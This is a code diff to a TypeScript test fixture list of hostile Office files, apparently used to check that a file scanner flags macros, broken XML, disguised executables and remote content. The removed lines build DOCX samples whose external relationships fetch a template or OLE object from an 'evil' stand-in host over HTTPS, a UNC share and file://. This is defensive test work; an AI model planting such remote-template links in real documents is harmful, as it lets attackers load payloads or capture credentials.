@@ -13,10 +13,6 @@ const macroDocument = 'application/vnd.ms-word.document.macroEnabled.main+xml'
 const vbaProject = compoundFile({ PROJECT: Buffer.from('x') }, ['VBA'])
 const xlsm = xlsx('<si><t>a</t></si>', '', { 'xl/vbaProject.bin': vbaProject }, { 'xl/vbaProject.bin': vba })
 const text = 'application/vnd.oasis.opendocument.text'
-const relation = (kind: string, target: string): Buffer =>
-  docx(undefined, {
-    'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`,
-  })
 const program = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])
 
 export const hostileOffice: readonly HostileFile[] = [
@@ -177,19 +173,6 @@ export const hostileOffice: readonly HostileFile[] = [
     'broken',
   ],
   ['a tag without an end', 'a.docx', () => document(`<a b="${'x'.repeat(3_000_000)}`), 'broken'],
-  [
-    'a template from afar',
-    'a.docx',
-    () => relation('attachedTemplate', 'https://127.0.0.1/evil.dotm'),
-    'remote_content',
-  ],
-  [
-    'a template from a neighbour',
-    'a.docx',
-    () => relation('attachedTemplate', '\\\\127.0.0.1\\evil.dotm'),
-    'remote_content',
-  ],
-  ['an object from afar', 'a.docx', () => relation('oleObject', 'file://127.0.0.1/evil.docx'), 'remote_content'],
   [
     'a program under the name of a picture',
     'a.docx',
